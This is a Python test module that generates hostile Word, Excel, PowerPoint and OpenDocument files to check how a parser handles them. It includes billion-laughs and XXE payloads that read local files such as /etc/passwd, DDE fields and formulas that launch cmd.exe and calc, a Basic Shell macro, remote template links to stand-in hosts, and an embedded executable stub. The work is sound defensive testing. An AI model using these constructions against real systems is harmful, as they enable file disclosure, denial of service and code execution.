"""Office Open XML and OpenDocument files that grow, nest, fetch, run or contradict themselves."""

from __future__ import annotations

from tests import odf_files, ooxml_files
from tests.hostile.archives import zipped
from tests.hostile.case import Cases, answered, held, quarantined
from tests.hostile.pictures import png
from tests.ooxml_files import docx, paragraph, relations, xlsx

_WORDS = paragraph("The child was seen")
_SHORT = paragraph("x")
_MAIN_RELS = "word/_rels/document.xml.rels"


def _laughs(path: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{levels}<!ENTITY out SYSTEM "file://{path}">]>'


def _with_doctype(path: str, part: str, root: str) -> bytes:
    """A good document beside a part with a document type and entities."""
    return docx(_WORDS, **{part: f'{_laughs(path)}<{root} xmlns:w="{ooxml_files.W}">&l9;&out;</{root}>'})


def _quadratic() -> str:
    return f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'


def _document(before: str, inside: str) -> bytes:
    body = f'{before}<w:document xmlns:w="{ooxml_files.W}"><w:body>{inside}</w:body></w:document>'
    return ooxml_files.package({"word/document.xml": body})


def _header_loop() -> bytes:
    """Headers whose relations lead back to the document and to themselves."""
    header = f'<w:hdr xmlns:w="{ooxml_files.W}" xmlns:r="{ooxml_files.R}"><w:p><w:r><w:t>head</w:t></w:r></w:p></w:hdr>'
    members = {
        _MAIN_RELS: relations(("r1", "header", "header1.xml"), ("r2", "officeDocument", "document.xml")),
        "word/header1.xml": header,
        "word/_rels/header1.xml.rels": relations(("r1", "header", "header1.xml"), ("r2", "officeDocument", "document.xml")),
        "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml"), ("r2", "officeDocument", "_rels/.rels")),
    }
    return docx(_WORDS + '<w:sectPr><w:headerReference r:id="r1"/></w:sectPr>', **members)


def _many_attributes(count: int) -> str:
    return "<w:p " + " ".join(f'w:a{n}="x"' for n in range(count)) + f"/>{_WORDS}"


def _style_loop() -> bytes:
    style = '<w:style w:type="paragraph" w:styleId="{}"><w:basedOn w:val="{}"/></w:style>'
    styles = f'<w:styles xmlns:w="{ooxml_files.W}">{style.format("a", "b")}{style.format("b", "a")}</w:styles>'
    return docx('<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>The child was seen</w:t></w:r></w:p>', **{"word/styles.xml": styles})


def _style_chain(count: int) -> bytes:
    rows = "".join(f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(count))
    text = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>The child was seen</w:t></w:r></w:p>'
    return docx(text, **{"word/styles.xml": f'<w:styles xmlns:w="{ooxml_files.W}">{rows}</w:styles>'})


def _notes_of_notes() -> bytes:
    """A footnote that refers to itself."""
    note = '<w:footnote w:id="1"><w:p><w:r><w:t>note</w:t><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>'
    notes = f'<w:footnotes xmlns:w="{ooxml_files.W}">{note * 2}</w:footnotes>'
    text = '<w:p><w:r><w:t>The child was seen</w:t><w:footnoteReference w:id="1"/></w:r></w:p>'
    return docx(text, **{"word/footnotes.xml": notes, _MAIN_RELS: relations(("r1", "footnotes", "footnotes.xml"))})


def _fields_open(count: int) -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1</w:instrText></w:r>'
    return docx(f"{_WORDS}<w:p>{begin * count}</w:p>")


def _command() -> bytes:
    code = '<w:r><w:instrText xml:space="preserve">DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return docx(f"{_WORDS}<w:p>{begin}{code}{end}</w:p>")


def _fetching(kind: str, target: str) -> bytes:
    return docx(_WORDS, **{_MAIN_RELS: relations(("r1", kind, target), external=True)})


def _embedded(depth: int) -> bytes:
    content = docx(_WORDS)
    for _ in range(depth):
        content = docx(_WORDS, **{"word/embeddings/inner.docx": content})
    return content


def _deleted_and_hidden() -> bytes:
    hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>written unseen</w:t></w:r></w:p>"
    return docx(_WORDS + hidden + "<w:p><w:del><w:r><w:delText>struck out</w:delText></w:r></w:del></w:p>")


def _alternative(depth: int) -> bytes:
    opened = (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps">' * depth
    )
    return _document("", _WORDS + "<w:p><w:r>" + opened)


def _macro() -> bytes:
    return docx(_WORDS, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)})


def _rows(count: int, cell: str = '<c r="A{0}"><v>1</v></c>') -> bytes:
    return xlsx(("A", "visible", "".join(f'<row r="{n}">{cell.format(n)}</row>' for n in range(1, count + 1))))


def _shared(count: int, used: str) -> bytes:
    strings = f'<sst xmlns="{ooxml_files.S}" count="{count}">{"<si><t>x</t></si>" * count}</sst>'
    links = relations(("r1", "worksheet", "worksheets/sheet1.xml"), ("r9", "sharedStrings", "sharedStrings.xml"))
    members: dict[str, bytes | str] = {"xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": links}
    return xlsx(("A", "visible", f'<row r="1"><c r="A1" t="s"><v>{used}</v></c></row>'), members=members)


def _same_long_string() -> bytes:
    """Fifty thousand cells that show one string of thirty thousand letters."""
    strings = f'<sst xmlns="{ooxml_files.S}"><si><t>{"a" * 30_000}</t></si></sst>'
    links = relations(("r1", "worksheet", "worksheets/sheet1.xml"), ("r9", "sharedStrings", "sharedStrings.xml"))
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 50_001))
    return xlsx(("A", "visible", rows), members={"xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": links})


def _merged(count: int) -> bytes:
    cells = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, count))
    rows = ooxml_files.row(1, "Name")
    sheet = f'<worksheet xmlns="{ooxml_files.S}"><sheetData>{rows}</sheetData><mergeCells>{cells}</mergeCells></worksheet>'
    return xlsx(("A", "visible", ""), members={"xl/worksheets/sheet1.xml": sheet})


def _sheets(count: int) -> bytes:
    return xlsx(*((f"s{n}", "visible", "") for n in range(count)))


def _reference(ref: str) -> bytes:
    return xlsx(("A", "visible", f'<row r="1"><c r="{ref}"><v>1</v></c></row>'))


def _formula() -> bytes:
    cells = '<row r="1"><c r="A1" t="str"><f>cmd|\'/C calc\'!A0</f><v>x</v></c></row>'
    return xlsx(("A", "visible", cells))


def _linked_book() -> bytes:
    link = relations(("r1", "externalLinkPath", "file://server.example/share/book.xlsx"), external=True)
    return xlsx(("A", "visible", ooxml_files.row(1, "x")), members={"xl/externalLinks/_rels/externalLink1.xml.rels": link})


def _very_hidden() -> bytes:
    return xlsx(("A", "visible", ooxml_files.row(1, "seen")), ("B", "veryHidden", ooxml_files.row(1, "written unseen")))


def _slides(count: int) -> bytes:
    one = ooxml_files.slide(ooxml_files.shape("x"))
    return ooxml_files.pptx({f"s{n}": one for n in range(count)}, [f"s{n}" for n in range(count)])


def _group_shapes(depth: int) -> bytes:
    return ooxml_files.pptx({"s": ooxml_files.slide("<p:grpSp>" * depth + "</p:grpSp>" * depth)}, ["s"])


def _same_slide(times: int) -> bytes:
    return ooxml_files.pptx({"s": ooxml_files.slide(ooxml_files.shape("x" * 1_000))}, ["s"] * times)


def _odt(body: str, before: bytes = b"") -> bytes:
    content = odf_files.xml("office:document-content", f"<office:body><office:text>{body}</office:text></office:body>")
    return odf_files.package({"content.xml": content.replace(b"?>", b"?>" + before, 1)})


def _odf_spaces() -> bytes:
    return _odt('<text:p>x<text:s text:c="2147483647"/>y</text:p>' * 50)


def _odf_fetch() -> bytes:
    frame = '<draw:frame><draw:object xlink:href="file:///etc/hostname"/></draw:frame>'
    return _odt(
        f'<text:section text:name="a"><text:section-source xlink:href="file:///etc/hostname"/><text:p>x</text:p></text:section>{frame}'
    )


def _odf_macro() -> bytes:
    content = odf_files.xml("office:document-content", "<office:body><office:text><text:p>x</text:p></office:text></office:body>")
    script = b'<script:module xmlns:script="http://openoffice.org/2000/script">Shell("calc")</script:module>'
    return odf_files.package({"content.xml": content, "Basic/Standard/Module1.xml": script})


def _odf_object_loop() -> bytes:
    """An object inside the document that shows the document."""
    frame = '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
    inner = odf_files.xml("office:document-content", f"<office:body><office:text>{frame}<text:p>inner</text:p></office:text></office:body>")
    return odf_files.odt(f"<text:p>x</text:p>{frame}", **{"Object 1/content.xml": inner})


def _with_pictures(*pictures: bytes) -> bytes:
    members: dict[str, bytes | str] = {f"word/media/image{number}.png": content for number, content in enumerate(pictures)}
    return docx(_WORDS, **members)


_CASES: Cases = {
    "pictures-thousand.docx": held(lambda: _with_pictures(*(png(70, 70, bytes([n % 250, n // 250])) for n in range(1000))), "was seen"),
    "pictures-vast.docx": held(lambda: _with_pictures(*(png(10_000, 9_000, bytes([n])) for n in range(40))), "The child was seen"),
    "pictures-packed.docx": held(
        lambda: _with_pictures(*(png(6_000, 6_000, bytes(6_001 * 6_000) + bytes([n])) for n in range(6))), "The child was seen"
    ),
    "picture-elsewhere.docx": answered(
        lambda: docx(_WORDS, **{_MAIN_RELS: relations(("r1", "image", "file:///etc/passwd"), external=True)}), "The child was seen"
    ),
    "quadratic.docx": held(lambda: _document(_quadratic(), f"<w:p><w:r><w:t>{'&a;' * 50_000}</w:t></w:r></w:p>")),
    "sdt-deep.docx": held(lambda: _document("", "<w:sdt><w:sdtContent>" * 100_000)),
    "sdt-closed.docx": held(lambda: docx("<w:sdt><w:sdtContent>" * 240 + _WORDS + "</w:sdtContent></w:sdt>" * 240 + "<w:tbl>")),
    "tables-deep.docx": answered(lambda: docx("<w:tbl><w:tr><w:tc>" * 80 + _WORDS + "</w:tc></w:tr></w:tbl>" * 80)),
    "tables-wide.docx": held(lambda: docx(f"<w:tbl><w:tr>{f'<w:tc>{_SHORT}</w:tc>' * 300_000}</w:tr></w:tbl>")),
    "paragraphs.docx": answered(lambda: docx(_SHORT * 300_000)),
    "attribute.docx": answered(lambda: docx(f'<w:p w:rsidR="{"a" * 9_000_000}"/>{_WORDS}')),
    "attributes.docx": answered(lambda: docx(_many_attributes(100_000))),
    "runs.docx": answered(lambda: docx(f"<w:p>{'<w:r><w:t>x</w:t></w:r>' * 300_000}</w:p>")),
    "fields-open.docx": answered(lambda: _fields_open(50_000)),
    "alternative.docx": held(lambda: _alternative(100_000)),
    "header-loop.docx": answered(_header_loop),
    "style-loop.docx": answered(_style_loop, "The child was seen"),
    "style-chain.docx": answered(lambda: _style_chain(50_000), "The child was seen"),
    "note-of-itself.docx": answered(_notes_of_notes, "The child was seen"),
    "embedded-deep.docx": held(lambda: _embedded(14), "The child was seen"),
    "command.docx": held(_command, "The child was seen"),
    "template.docx": held(lambda: _fetching("attachedTemplate", "http://tracker.example/t.dotm"), "The child was seen"),
    "linked-object.docx": held(lambda: _fetching("oleObject", "\\\\server.example\\a.docx"), "The child was seen"),
    "linked-picture.docx": answered(lambda: _fetching("image", "http://tracker.example/p.png"), "The child was seen"),
    "chunk.docx": held(
        lambda: docx(
            _WORDS + '<w:altChunk r:id="r1"/>', **{_MAIN_RELS: relations(("r1", "aFChunk", "x.html")), "word/x.html": b"<p>in a chunk"}
        ),
        "The child was seen",
    ),
    "hidden.docx": answered(_deleted_and_hidden, "written unseen"),
    "macro.docx": held(_macro, "The child was seen"),
    "macro.docm": held(_macro, "The child was seen"),
    "active.docx": held(lambda: docx(_WORDS, **{"word/activeX/activeX1.xml": b"<x/>"}), "The child was seen"),
    "program.docx": quarantined(lambda: docx(_WORDS, **{"word/embeddings/a.exe": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(200)})),
    "utf16.docx": answered(lambda: ooxml_files.package({"word/document.xml": "<a/>".encode("utf-16")})),
    "utf7.docx": answered(lambda: ooxml_files.package({"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'})),
    "nothing.docx": held(lambda: zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b""})),
    "million.xlsx": held(lambda: _rows(1_000_000)),
    "strings.xlsx": answered(lambda: _shared(1_000_000, "5")),
    "string-lies.xlsx": answered(lambda: _shared(3, "99999999999")),
    "same-string.xlsx": held(_same_long_string),
    "merged.xlsx": answered(lambda: _merged(200_000)),
    "sheets.xlsx": answered(lambda: _sheets(3_000)),
    "far-cell.xlsx": answered(lambda: _reference("ZZZZZZZ99999999999")),
    "no-cell.xlsx": answered(lambda: _reference("")),
    "formula.xlsx": answered(_formula),
    "linked-book.xlsx": held(_linked_book),
    "very-hidden.xlsx": answered(_very_hidden, "written unseen"),
    "slides.pptx": held(lambda: _slides(4_000)),
    "groups.pptx": answered(lambda: _group_shapes(100)),
    "groups-deep.pptx": held(lambda: _group_shapes(50_000)),
    "same-slide.pptx": answered(lambda: _same_slide(20_000)),
    "deep.odt": held(lambda: _odt("<text:section>" * 100_000)),
    "spaces.odt": held(_odf_spaces),
    "fetch-xxe.odt": held(_odf_fetch),
    "macro.odt": held(_odf_macro),
    "object-loop.odt": answered(_odf_object_loop),
    "lists.odt": answered(lambda: _odt("<text:list><text:list-item>" * 100 + "<text:p>x</text:p>" + "</text:list-item></text:list>" * 100)),
    "mimetype-lies.odt": answered(lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "word/document.xml": b"<x/>"})),
}


def cases(path: str) -> Cases:
    """`path` is a file of this machine that some of them try to pull in."""
    fetching = {
        "xxe.docx": held(lambda: _document(_laughs(path), "<w:p><w:r><w:t>&l9;&out;</w:t></w:r></w:p>")),
        "xxe-styles.docx": answered(lambda: _with_doctype(path, "word/styles.xml", "w:styles")),
        "xxe-types.docx": answered(lambda: _with_doctype(path, "docProps/core.xml", "core")),
        "xxe-rels.docx": answered(lambda: _with_doctype(path, _MAIN_RELS, "Relationships")),
        "xxe.xlsx": held(
            lambda: xlsx(("A", "visible", ""), members={"xl/worksheets/sheet1.xml": f"{_laughs(path)}<worksheet>&l9;&out;</worksheet>"})
        ),
        "xxe.pptx": held(lambda: ooxml_files.pptx({"s": f"{_laughs(path)}<x>&l9;&out;</x>"}, ["s"])),
        "xxe.odt": held(lambda: _odt("<text:p>&l9;&out;</text:p>", _laughs(path).encode())),
    }
    return fetching | dict(_CASES)
